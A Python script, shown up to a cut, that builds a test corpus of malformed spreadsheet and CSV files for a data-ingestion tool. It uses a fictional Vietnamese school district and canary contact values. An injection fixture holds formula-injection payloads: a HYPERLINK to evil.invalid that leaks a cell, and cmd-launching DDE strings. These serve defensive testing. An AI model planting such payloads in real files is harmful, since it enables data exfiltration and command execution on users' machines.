# ruff: noqa: E501  (tables of data typed one row a line)
"""Build the hostile-file corpus (tests/hostile/): files as other programs write them.

Run from the repository root (re-runnable; it rewrites every fixture):

    python tests/hostile/make_corpus.py            # needs LibreOffice (soffice) for some files
    python tests/hostile/make_corpus.py --no-soffice   # only the files built without it

Independent of the suite's sample generator (``analysis.sample*`` is never imported): the data
below is a small FICTIONAL district (6 schools) typed here by hand, and the files are made by

- LibreOffice (``soffice --headless --convert-to xlsx|ods|xls``) from Flat ODS XML sources
  written here (``sources/*.fods``: exact cell types, text vs number codes, date cells, a
  formula with its cached value);
- hand-built xlsx zips (``zipfile`` + minimal XML parts): a stray cell at XFD1048576, a declared
  dimension (A1:C4) much smaller than the data;
- openpyxl (formulas written without a cached value, as scripts and web tools write them);
- byte-level text files: CR-only / mixed line endings, UTF-16 "Unicode Text" (.txt, tab),
  Windows-1258 with ``;``, UTF-32, an HTML table saved as .xls (plain, and with BOM + meta);
- stray files: a .pdf and a .docx (LibreOffice from HTML), ``~$`` lock file, ``.DS_Store``,
  ``Thumbs.db``.

Every name, phone number and e-mail here is invented; the canaries ("Canary ...", 0900111222,
0900333444, canary.mau@example.invalid) exist to be searched for in outputs. What each file
must give is in README.md and tests/ingest/test_hostile_corpus.py (computed there by hand).
"""

from __future__ import annotations

import argparse
import codecs
import html
import shutil
import subprocess
import sys
import tempfile
import unicodedata
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent

# ------------------------------------------------------------------------------------------
# The fictional district (Phường Đông Hoà, invented)

# code as stored (str: a text cell that kept its zeros; int: a number cell, zero lost),
# name, level, ownership, ward, classes, pupils
SCHOOLS = [
    ("01010001", "Trường Mầm non Hoa Sen", "Mầm non", "Công lập", "Phường Đông Hoà", 8, 240),
    (1020001, "Trường Tiểu học Hoa Sen", "Tiểu học", "Công lập", "Phường Đông Hoà", 20, 700),
    ("01020002", "Trường Tiểu học Sao Mai", "TH", "Công lập", "Phường Tây Sơn", 15, 520),
    (1030001, "Trường THCS Sao Mai", "THCS", "Công lập", "Phường Tây Sơn", 18, 690),
    ("01010002", "Trường Mầm non Bình Minh", "MN", "Tư thục", "Phường Đông Hoà", 6, 180),
    (1030002, "Trường THCS Đoàn Kết", "Trung học cơ sở", "Công lập", "Phường Tây Sơn", 12, 450),
]
SCHOOL_HEADER = [
    "STT",
    "Mã trường",
    "Tên trường",
    "Cấp học",
    "Loại hình",
    "Phường",
    "Số lớp",
    "Số học sinh",
]

STAFF_HEADER = [
    "STT",
    "Mã định danh",
    "Họ và tên",
    "Số điện thoại",
    "Chức vụ",
    "Mã trường",
    "Tên trường",
    "Trạng thái CB",
    "Chữ ký số",
    "Nhà cung cấp",
    "Ngày cấp",
    "Ngày hết hạn",
    "Ghi chú",
]
W = "Đang làm việc"
# (staff id or None, school code as stored or None, school name or None, position,
#  employment status, signature status, provider, issued, expires); dates dd/mm/yyyy text,
#  a date object for a real date cell (LibreOffice files only).
STAFF = [
    ("8800100001", "01010001", None, "Hiệu trưởng", W, "Đã cấp", "Viettel", "D2024-09-01", "D2026-08-31"),  # 1
    ("8800100002", None, "Trường Mầm non Hoa Sen", "Giáo viên", W, "Chưa cấp", None, None, None),  # 2
    ("8800100003", None, "Mầm non Hoa Sen", "Giáo viên", None, "Có", "VNPT", "15/10/2024", "15/10/2026"),  # 3
    ("8800100004", 1020001, None, "Hiệu trưởng", W, "Đã cấp", "VNPT", "D2024-10-01", "D2026-09-30"),  # 4
    ("8800100005", None, "Trường Tiểu học Hoa Sen", "Phó hiệu trưởng", W, "x", "FPT", "01/11/2024", "01/11/2026"),  # 5
    ("8800100006", None, "TH Hoa Sen", "Giáo viên", W, "Chưa có", None, None, None),  # 6
    ("8800100007", None, "Tiểu học Hoa Sen", "Giáo viên", W, "Đang chờ", None, None, None),  # 7 pending
    ("8800100008", "01020001", None, "Kế toán", W, "1", "BKAV", "02/12/2024", "02/12/2026"),  # 8
    ("8800100009", "01020002", None, "Hiệu trưởng", W, "Đã cấp", "Viettel", "05/09/2024", "05/09/2026"),  # 9
    ("8800100010", None, "Trường Tiểu học Sao Mai", "Giáo viên", W, "Chưa cấp", None, None, None),  # 10
    ("8800100011", None, "TH Sao Mai", "Giáo viên", "Nghỉ hưu", "Đã cấp", "VNPT", "01/03/2024", "01/03/2026"),  # 11 left
    ("8800100012", None, "TH Sao Mai", "Giáo viên", W, "Kiểm tra lại", None, None, None),  # 12 bad_status
    ("8800100013", 1030001, None, "Hiệu trưởng", W, "Đã cấp", "MISA", "10/10/2024", "10/10/2026"),  # 13
    ("8800100014", None, "Trường THCS Sao Mai", "Giáo viên", W, "Có", "Viettel", "11/10/2024", "11/10/2026"),  # 14
    ("8800100015", None, "THCS Sao Mai", "Giáo viên", W, "Chưa cấp", None, None, None),  # 15
    ("8800100016", None, "THCS Sao Mai", "Nhân viên", W, "Có", "VNPT", "31/02/2024", "01/01/2026"),  # 16 bad_date
    (None, None, "THCS Sao Mai", "Giáo viên", W, "Có", "VNPT", "01/01/2024", "01/01/2026"),  # 17 missing_id
    ("8800100018", None, "THCS Sao Mai", "Giáo viên", "Chuyển đi", "Chưa cấp", None, None, None),  # 18 left
    ("8800100019", "01020002", None, "Tổng phụ trách Đội", W, "Có", "VNPT", "01/12/2024", "01/12/2026"),  # 19
    ("8800100020", None, "TH Hoa Sen", "Giáo viên", W, "Đã cấp", "Viettel", "01/02/2025", "01/01/2025"),  # 20 expiry<issue
]  # fmt: skip
STAFF_TITLE = "DANH SÁCH CBGVNV VÀ CHỮ KÝ SỐ (số liệu tính đến 14/03/2025)"
# Personal values of the district's own staff (never in any output).
STAFF_NAMES = [f"Người Thử Nghiệm Số {i:02d}" for i in range(1, 21)]
STAFF_PHONES = [f"09003334{i:02d}" for i in range(1, 21)]

COUNTS_HEADER = [
    "STT",
    "Tên trường",
    "Mã trường",
    "Tổng số CBGVNV",
    "Số đã có chữ ký số",
    "Tỷ lệ (%)",
]
COUNTS = [
    ("Trường Mầm non Bình Minh", "01010002", 10, 4, "40%"),
    ("Trường THCS Đoàn Kết", 1030002, 25, 20, "80%"),
    ("Trường Mầm non Hoa Sen", "01010001", 3, 3, "100%"),  # also has a list: the list wins
]

# Canaries (free text typed beside the data, and personal columns)
CANARY_NAME = "Canary Nguyễn Thị Mẫu"  # in free-text columns (may appear masked-only places)
CANARY_PHONE = "0900111222"  # in free-text columns: only masked anywhere
CANARY_EMAIL = "canary.mau@example.invalid"
CANARY_PERSONAL_NAME = "Canary Họ Tên Riêng"  # in the personal column: never anywhere
CANARY_PERSONAL_PHONE = "0900333444"


def _date_text(v):
    if isinstance(v, str) and v.startswith("D"):
        y, m, d = v[1:].split("-")
        return f"{d}/{m}/{y}"
    return v


def staff_rows(text_only: bool = True) -> list[list]:
    """Title row, header row, the 20 rows, a blank row and a footer (rows 1..24)."""
    rows: list[list] = [[STAFF_TITLE], list(STAFF_HEADER)]
    for n, (pid, code, name, pos, emp, st, prov, iss, exp) in enumerate(STAFF, 1):
        if text_only:
            code = None if code is None else str(code)
            iss, exp = _date_text(iss), _date_text(exp)
        rows.append(
            [n, pid, STAFF_NAMES[n - 1], STAFF_PHONES[n - 1], pos, code, name, emp, st, prov,
             iss, exp, None]
        )  # fmt: skip
    rows.append([])
    rows.append([None, "Người lập biểu", None, None, None, None, None, "Hiệu trưởng"])
    return rows


def school_rows() -> list[list]:
    rows: list[list] = [
        ["UBND PHƯỜNG ĐÔNG HOÀ (HƯ CẤU)"],
        ["DANH SÁCH TRƯỜNG NĂM HỌC 2024-2025"],
        [],
        list(SCHOOL_HEADER),
    ]
    for i, (code, name, level, own, ward, cls, pup) in enumerate(SCHOOLS, 1):
        rows.append([i, code, name, level, own, ward, cls, pup])
    n = len(SCHOOLS)
    # the total row: formulas with their cached values (LibreOffice saves them)
    rows.append(
        [None, None, "Tổng cộng", None, None, None,
         ("=SUM(G5:G10)", sum(s[5] for s in SCHOOLS)), ("=SUM(H5:H10)", sum(s[6] for s in SCHOOLS))]
    )  # fmt: skip
    assert len(rows) == 4 + n + 1
    rows.append([])
    rows.append([None, None, "Người lập biểu"])
    return rows


def count_rows() -> list[list]:
    rows: list[list] = [["TỔNG HỢP CHỮ KÝ SỐ CBGVNV"], list(COUNTS_HEADER)]
    for i, (name, code, total, signed, rate) in enumerate(COUNTS, 1):
        rows.append([i, name, code, total, signed, rate])
    rows.append([None, "Tổng cộng", None, ("=SUM(D3:D5)", 38), ("=SUM(E3:E5)", 27), None])
    return rows


# ------------------------------------------------------------------------------------------
# Flat ODS XML (LibreOffice's own format, written here cell by cell)

_FODS_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" \
xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" \
xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" \
xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" \
xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" \
xmlns:number="urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0" \
office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
<office:automatic-styles><number:date-style style:name="N37"><number:day number:style="long"/>\
<number:text>/</number:text><number:month number:style="long"/><number:text>/</number:text>\
<number:year number:style="long"/></number:date-style>\
<style:style style:name="ce1" style:family="table-cell" style:data-style-name="N37"/>\
</office:automatic-styles>
<office:body><office:spreadsheet>
"""


def _ods_formula(f: str) -> str:
    # "=SUM(G5:G10)" -> "of:=SUM([.G5:.G10])"
    import re

    body = re.sub(r"([A-Z]+\d+):([A-Z]+\d+)", r"[.\1:.\2]", f[1:])
    return "of:=" + body


def _fods_cell(v) -> str:
    if v is None or v == "":
        return "<table:table-cell/>"
    if isinstance(v, tuple):  # (formula, cached value)
        f, val = v
        return (
            f'<table:table-cell table:formula="{escape(_ods_formula(f))}" '
            f'office:value-type="float" office:value="{val}"><text:p>{val}</text:p>'
            "</table:table-cell>"
        )
    if isinstance(v, int | float) and not isinstance(v, bool):
        return (
            f'<table:table-cell office:value-type="float" office:value="{v}">'
            f"<text:p>{v}</text:p></table:table-cell>"
        )
    if isinstance(v, str) and v.startswith("D20"):
        y, m, d = v[1:].split("-")
        return (
            f'<table:table-cell table:style-name="ce1" office:value-type="date" '
            f'office:date-value="{y}-{m}-{d}"><text:p>{d}/{m}/{y}</text:p></table:table-cell>'
        )
    return (
        f'<table:table-cell office:value-type="string"><text:p>{escape(str(v))}</text:p>'
        "</table:table-cell>"
    )


def write_fods(path: Path, sheets: dict[str, list[list]]) -> None:
    parts = [_FODS_HEAD]
    for name, rows in sheets.items():
        parts.append(f'<table:table table:name="{escape(name)}">')
        for row in rows:
            cells = "".join(_fods_cell(v) for v in row) or "<table:table-cell/>"
            parts.append(f"<table:table-row>{cells}</table:table-row>")
        parts.append("</table:table>")
    parts.append("</office:spreadsheet></office:body></office:document>\n")
    path.write_text("\n".join(parts), encoding="utf-8")


def soffice_convert(src: Path, fmt: str, outdir: Path) -> Path:
    """``soffice --headless --convert-to fmt`` in a private profile (other LibreOffice
    processes on the machine keep theirs)."""
    outdir.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as prof:
        cmd = [
            "soffice",
            f"-env:UserInstallation=file://{prof}",
            "--headless",
            "--convert-to",
            fmt,
            "--outdir",
            str(outdir),
            str(src),
        ]
        subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    ext = fmt.split(":")[0]
    out = outdir / f"{src.stem}.{ext}"
    if not out.is_file():
        raise RuntimeError(f"soffice did not write {out}")
    return out


# ------------------------------------------------------------------------------------------
# Hand-built xlsx (zipfile + minimal XML parts)

_CT = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
<Default Extension="xml" ContentType="application/xml"/>\
<Override PartName="/xl/workbook.xml" \
ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>\
<Override PartName="/xl/worksheets/sheet1.xml" \
ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>\
<Override PartName="/xl/sharedStrings.xml" \
ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>\
</Types>"""
_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
<Relationship Id="rId1" \
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
Target="xl/workbook.xml"/></Relationships>"""
_WB = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>"""
_WB_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
<Relationship Id="rId1" \
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" \
Target="worksheets/sheet1.xml"/>\
<Relationship Id="rId2" \
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" \
Target="sharedStrings.xml"/></Relationships>"""


def col_letter(i: int) -> str:
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def write_xlsx_zip(
    path: Path,
    rows: list[list],
    *,
    dimension: str | None,
    extra_cells: list[tuple[str, str]] = (),
    sheet: str = "Sheet1",
) -> None:
    """A minimal xlsx: one sheet, shared strings, numbers as <v>; ``dimension`` as declared
    (may be wrong on purpose); ``extra_cells``: (ref, text) cells after the rows (a stray
    cell far away)."""
    strings: list[str] = []
    index: dict[str, int] = {}

    def sst(s: str) -> int:
        if s not in index:
            index[s] = len(strings)
            strings.append(s)
        return index[s]

    out = []
    for r, row in enumerate(rows, 1):
        cells = []
        for c, v in enumerate(row):
            if v is None or v == "":
                continue
            ref = f"{col_letter(c)}{r}"
            if isinstance(v, int | float) and not isinstance(v, bool):
                cells.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                cells.append(f'<c r="{ref}" t="s"><v>{sst(str(v))}</v></c>')
        if cells:
            out.append(f'<row r="{r}">{"".join(cells)}</row>')
    by_row: dict[int, list[str]] = {}
    for ref, value in extra_cells:
        rownum = int("".join(ch for ch in ref if ch.isdigit()))
        by_row.setdefault(rownum, []).append(f'<c r="{ref}" t="s"><v>{sst(value)}</v></c>')
    for rownum in sorted(by_row):
        out.append(f'<row r="{rownum}">{"".join(by_row[rownum])}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet_xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{''.join(out)}</sheetData></worksheet>"
    )
    sst_xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">'
        + "".join(f'<si><t xml:space="preserve">{escape(s)}</t></si>' for s in strings)
        + "</sst>"
    )
    parts = {
        "[Content_Types].xml": _CT,
        "_rels/.rels": _RELS,
        "xl/workbook.xml": _WB.format(name=escape(sheet)),
        "xl/_rels/workbook.xml.rels": _WB_RELS,
        "xl/worksheets/sheet1.xml": sheet_xml,
        "xl/sharedStrings.xml": sst_xml,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data.encode("utf-8"))


# ------------------------------------------------------------------------------------------
# Text files, byte by byte


def csv_line(values, delim: str = ",") -> str:
    out = []
    for v in values:
        s = "" if v is None else str(v)
        if any(ch in s for ch in (delim, '"', "\n", "\r")):
            s = '"' + s.replace('"', '""') + '"'
        out.append(s)
    return delim.join(out)


def cp1258_bytes(text_: str) -> bytes:
    """Vietnamese text as Windows-1258 writes it: a precomposed base letter of the code page
    (â ê ô ơ ư ă đ...) followed by a combining tone mark when the letter with its tone is
    not in the code page."""
    out = bytearray()
    tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
    for ch in unicodedata.normalize("NFC", text_):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        tone = "".join(p for p in parts if p in tones)
        base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in tones))
        out += base.encode("cp1258") + tone.encode("cp1258")
    return bytes(out)


def staff_text(delim: str = ",") -> list[str]:
    return [csv_line(r, delim) for r in staff_rows(text_only=True)]


def staff_html(bom_meta: bool) -> bytes:
    rows = staff_rows(text_only=True)
    trs = []
    for r, row in enumerate(rows):
        tag = "th" if r == 1 else "td"
        text_style = ' style="mso-number-format:\\@"'  # a text cell (codes keep zeros)
        cells = "".join(
            f"<{tag}{text_style if c in (1, 5) else ''}>"
            f"{html.escape('' if v is None else str(v))}</{tag}>"
            for c, v in enumerate(row)
        )
        if r == 0:
            cells = f'<td colspan="13"><b>{html.escape(str(row[0]))}</b></td>'
        trs.append(f"<tr>{cells}</tr>")
    table = '<table border="1">\n' + "\n".join(trs) + "\n</table>"
    if bom_meta:
        doc = (
            '<html xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:x="urn:schemas-microsoft-com:office:excel" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
            '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta charset="utf-8">\n<title>Xuất Excel</title>\n'
            "<style>td { mso-number-format: General; }</style>\n</head>\n<body>\n"
            f"{table}\n</body>\n</html>\n"
        )
        return codecs.BOM_UTF8 + doc.encode("utf-8")
    return f"<html><body>\n{table}\n</body></html>\n".encode()


# ------------------------------------------------------------------------------------------
# The corpus


def build_district(soffice: bool) -> None:
    src = HERE / "sources"
    src.mkdir(exist_ok=True)
    write_fods(src / "DanhSachTruong.fods", {"Danh sách trường": school_rows()})
    write_fods(src / "CBGVNV.fods", {"DanhSach": staff_rows(text_only=False)})
    write_fods(src / "TongHopCKS.fods", {"Tổng hợp": count_rows()})
    if not soffice:
        return
    for fmt in ("xlsx", "ods", "xls"):
        out = HERE / "district" / fmt
        if out.exists():
            shutil.rmtree(out)
        for name in ("DanhSachTruong", "CBGVNV", "TongHopCKS"):
            soffice_convert(src / f"{name}.fods", fmt, out)


def build_text_variants() -> None:
    d = HERE / "staff_text"
    d.mkdir(exist_ok=True)
    lines = staff_text(",")
    # Excel for Mac "CSV": CR alone
    (d / "CBGVNV_mac_cr.csv").write_bytes(("\r".join(lines) + "\r").encode("utf-8"))
    # mixed: a file edited on two machines (CRLF, LF, CR in turn)
    ends = ["\r\n", "\n", "\r"]
    mixed = "".join(line + ends[i % 3] for i, line in enumerate(lines))
    (d / "CBGVNV_mixed_endings.csv").write_bytes(mixed.encode("utf-8"))
    # Excel "Unicode Text": UTF-16 LE with BOM, tab separated, CRLF
    tab = "\r\n".join(staff_text("\t")) + "\r\n"
    (d / "CBGVNV_unicode_text.txt").write_bytes(codecs.BOM_UTF16_LE + tab.encode("utf-16-le"))
    # quoted fields holding line breaks (CR alone, LF, CRLF) in the note column, CRLF file
    rows = staff_rows(text_only=True)
    for r, brk in ((3, "\r"), (8, "\n"), (15, "\r\n")):
        rows[r][12] = f"Ghi chú dòng một{brk}dòng hai"
    quoted = "".join(csv_line(row) + "\r\n" for row in rows)
    (d / "CBGVNV_quoted_line_breaks.csv").write_bytes(quoted.encode("utf-8"))
    # Windows-1258 with ';' (Excel "CSV" on a Vietnamese Windows)
    semi = "\r\n".join(staff_text(";")) + "\r\n"
    (d / "CBGVNV_cp1258_semicolon.csv").write_bytes(cp1258_bytes(semi))


def build_html_xls() -> None:
    d = HERE / "html_xls"
    d.mkdir(exist_ok=True)
    (d / "CBGVNV_web_export.xls").write_bytes(staff_html(bom_meta=False))
    (d / "CBGVNV_web_export_bom_meta.xls").write_bytes(staff_html(bom_meta=True))


LATE_ROWS = [
    ["Mã định danh", "Họ và tên", "Chức vụ", "Tên trường", "Chữ ký số", "Nhà cung cấp"],
    ["8800100101", "Người Thử Nghiệm Bổ Sung 1", "Giáo viên", "Trường Tiểu học Sao Mai", "Đã cấp", "VNPT"],
    ["8800100102", "Người Thử Nghiệm Bổ Sung 2", "Nhân viên", "Trường Tiểu học Sao Mai", "Chưa cấp", ""],
]  # fmt: skip


def build_subfolder() -> None:
    d = HERE / "subfolder" / "Gửi bổ sung"
    d.mkdir(parents=True, exist_ok=True)
    text_ = "\r\n".join(csv_line(r) for r in LATE_ROWS) + "\r\n"
    (d / "TH_SaoMai_bo_sung.csv").write_bytes(codecs.BOM_UTF8 + text_.encode("utf-8"))


FORMULA_HEADER = ["Mã định danh", "Họ và tên", "Chức vụ", "Mã trường", "Ngày cấp", "Chữ ký số"]


def build_formulas() -> None:
    import openpyxl

    d = HERE / "formulas"
    d.mkdir(exist_ok=True)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "CKS"
    ws.append(["DANH SÁCH CHỮ KÝ SỐ (tự động)"])
    ws.append(FORMULA_HEADER)
    rows = [
        ("8800100201", "Người Thử Nghiệm CT 1", "Giáo viên", "01020002", "01/10/2024", "Đã cấp"),
        ("8800100202", "Người Thử Nghiệm CT 2", "Giáo viên", "01020002", "01/10/2024", None),
        ("8800100203", "Người Thử Nghiệm CT 3", "Giáo viên", "01020002", None, None),
        ("8800100204", "Người Thử Nghiệm CT 4", "Nhân viên", "01020002", None, "Chưa cấp"),
        ("8800100205", "Người Thử Nghiệm CT 5", "Giáo viên", "01020002", "05/10/2024", None),
        ("8800100206", "Người Thử Nghiệm CT 6", "Hiệu trưởng", "01020002", "05/10/2024", "Đã cấp"),
    ]
    for i, (pid, name, pos, code, iss, st) in enumerate(rows, 3):
        # rows 4, 5, 7: 'Chữ ký số' is a formula saved without a value (openpyxl writes none)
        value = st if st is not None else f'=IF(E{i}<>"","Đã cấp","Chưa cấp")'
        ws.append([pid, name, pos, code, iss, value])
    wb.save(d / "CKS_cong_thuc.xlsx")


def build_xlsx_dimension() -> None:
    d = HERE / "xlsx_dimension"
    d.mkdir(exist_ok=True)
    header = ["Mã định danh", "Chức vụ", "Mã trường", "Chữ ký số", "Nhà cung cấp"]
    # a stray cell at XFD1048576 (the sheet declares the whole grid)
    rows = [header]
    for i in range(1, 7):
        rows.append([f"88001003{i:02d}", "Giáo viên", "01020002", "Đã cấp" if i % 2 else "Chưa cấp",
                     "VNPT" if i % 2 else None])  # fmt: skip
    write_xlsx_zip(
        d / "CBGVNV_stray_XFD1048576.xlsx",
        rows,
        dimension="A1:XFD1048576",
        extra_cells=[("XFD1048576", "x")],
    )
    # a CSDL-style export declaring A1:C4 and holding 300 data rows
    rows = [header]
    for i in range(1, 301):
        rows.append([f"8800104{i:03d}", "Giáo viên" if i % 10 else "Nhân viên",
                     "01020001" if i % 2 else 1030001, "Đã cấp" if i % 3 == 0 else "Chưa cấp",
                     "Viettel" if i % 3 == 0 else None])  # fmt: skip
    write_xlsx_zip(d / "CBGVNV_dimension_A1_C4.xlsx", rows, dimension="A1:C4")


def build_bad_files() -> None:
    d = HERE / "bad_files"
    d.mkdir(exist_ok=True)
    # 24 lines of instructions (no digits: a message must not find "20" in them)
    lines = [csv_line([f"Hướng dẫn điền biểu mẫu, mục {chr(97 + i)}"]) for i in range(24)]
    lines += staff_text(",")[1:8]  # the header lands on row 25
    (d / "CBGVNV_header_row25.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
    (d / "CBGVNV_csv_named.xlsx").write_bytes(
        ("\r\n".join(staff_text(",")[:8]) + "\r\n").encode("utf-8")
    )
    (d / "CBGVNV_utf32.csv").write_bytes(
        ("\r\n".join(staff_text(",")[:8]) + "\r\n").encode("utf-32")
    )


INJECTION_HEADER = ["Mã định danh", "Chức vụ", "Tên trường", "Chữ ký số", "Nhà cung cấp", "Ghi chú"]
INJECTION_ROWS = [
    ["8800100301", "Giáo viên", '=HYPERLINK("http://evil.invalid/?x="&A1,"Trường THCS Sao Mai")', "Đã cấp", "VNPT", ""],
    ["8800100302", "Giáo viên", "+Trường THCS Sao Mai", "Đã cấp", "VNPT", ""],
    ["8800100303", "Giáo viên", "@SUM(1+1)*cmd|' /C calc'!A0", "Chưa cấp", "", ""],
    ["8800100304", "Giáo viên", "-2+3+cmd|' /C calc'!A0", "Chưa cấp", "", ""],
    ["8800100305", "Giáo viên", "Trường THCS Sao Mai", "Đã cấp", "=1+1", "=cmd|' /C notepad'!A0"],
    ["8800100306", "Giáo viên", "Trường THCS Sao Mai", "Đã cấp", "@Viettel", ""],
    ["8800100307", "Giáo viên", "Trường THCS Sao Mai", "Đã cấp", "+VNPT", ""],
    ["8800100308", "Giáo viên", "Trường THCS Sao Mai", "Chưa cấp", "", "-tab"],
]  # fmt: skip


def build_injection() -> None:
    d = HERE / "injection"
    d.mkdir(exist_ok=True)
    lines = [csv_line(INJECTION_HEADER)] + [csv_line(r) for r in INJECTION_ROWS]
    (d / "CBGVNV_injection.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))


FREE_HEADER = [
    "Mã định danh",
    "Họ và tên",
    "Số điện thoại",
    "Email",
    "Chức vụ",
    "Mã trường",
    "Trạng thái CB",
    "Chữ ký số",
    "Nhà cung cấp",
    "Ghi chú",
]
FREE_ROWS = [
    # row 3: status free text with a name and a phone (not "Đang làm việc": out of the denominator)
    ["8800100401", CANARY_PERSONAL_NAME, CANARY_PERSONAL_PHONE, CANARY_EMAIL, "Giáo viên",
     "01030002", f"Nghỉ phép, liên hệ {CANARY_NAME} {CANARY_PHONE}", "Đã cấp", "VNPT", ""],
    # row 4: position with a role word and a name/phone typed beside it
    ["8800100402", "Người Thử Nghiệm TD 2", "", "", f"Giáo viên (nhờ {CANARY_NAME}, {CANARY_PHONE})",
     "01030002", W, "Đã cấp", "Viettel", ""],
    # row 5: provider free text (not a provider of the list)
    ["8800100403", "Người Thử Nghiệm TD 3", "", "", "Giáo viên", "01030002", W, "Đã cấp",
     f"Mua qua {CANARY_NAME} ĐT {CANARY_PHONE}", ""],
    # row 6: a note with a phone and an e-mail
    ["8800100404", "Người Thử Nghiệm TD 4", "", "", "Nhân viên", "01030002", W, "Chưa cấp", "",
     f"Gọi {CANARY_NAME} {CANARY_PHONE} hoặc {CANARY_EMAIL}"],
    # row 7: position that is only a name and a phone (no role in it)
    ["8800100405", "Người Thử Nghiệm TD 5", "", "", f"{CANARY_NAME} {CANARY_PHONE}", "01030002", W,
     "Chưa cấp", "", ""],
    # row 8: an ordinary row
    ["8800100406", "Người Thử Nghiệm TD 6", "", "", "Hiệu trưởng", "01030002", W, "Đã cấp", "MISA", ""],
]  # fmt: skip


def build_free_text(soffice: bool) -> None:
    d = HERE / "free_text"
    d.mkdir(exist_ok=True)
    lines = [csv_line(["DANH SÁCH CBGVNV TRƯỜNG THCS ĐOÀN KẾT"]), csv_line(FREE_HEADER)]
    lines += [csv_line(r) for r in FREE_ROWS]
    (d / "CBGVNV_free_text.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
    src = HERE / "sources"
    src.mkdir(exist_ok=True)
    rows = [["DANH SÁCH CBGVNV TRƯỜNG THCS ĐOÀN KẾT"], FREE_HEADER, *FREE_ROWS]
    write_fods(src / "CBGVNV_free_text.fods", {"DanhSach": rows})
    if soffice:
        soffice_convert(src / "CBGVNV_free_text.fods", "xlsx", d)


# A school list whose codes are mostly number cells (7 digits, zeros lost), two text cells
# keep 8 digits: the width is 8 (from the text cells), not the most common length 7.
CODE_SCHOOLS = [
    (1020001, "Trường Tiểu học Hoa Sen", "Tiểu học", 20, 700),
    (1020002, "Trường Tiểu học Sao Mai", "Tiểu học", 15, 520),
    (1030001, "Trường THCS Sao Mai", "THCS", 18, 690),
    (1030002, "Trường THCS Đoàn Kết", "THCS", 12, 450),
    ("01010001", "Trường Mầm non Hoa Sen", "Mầm non", 8, 240),
    ("01010002", "Trường Mầm non Bình Minh", "Mầm non", 6, 180),
]


def build_code_width() -> None:
    import openpyxl

    d = HERE / "code_width"
    d.mkdir(exist_ok=True)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Trường"
    ws.append(["Mã trường", "Tên trường", "Cấp học", "Số lớp", "Số học sinh"])
    for row in CODE_SCHOOLS:
        ws.append(list(row))
    wb.save(d / "DanhSachTruong_ma_so.xlsx")
    lines = [csv_line(["Mã định danh", "Chức vụ", "Mã trường", "Chữ ký số"])]
    lines += [
        csv_line(["8800100501", "Giáo viên", "01020001", "Đã cấp"]),
        csv_line(["8800100502", "Giáo viên", "01030002", "Chưa cấp"]),
        csv_line(["8800100503", "Giáo viên", "01010002", "Đã cấp"]),
        csv_line(["8800100504", "Giáo viên", "1020002", "Đã cấp"]),
    ]
    (d / "CBGVNV_theo_ma.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))


LEVEL_ROWS = [
    ["Mã định danh", "Chức vụ", "Tên trường", "Chữ ký số"],
    ["8800100601", "Giáo viên", "Trường Tiểu học Hoa Sen", "Đã cấp"],  # 2 -> TH Hoa Sen
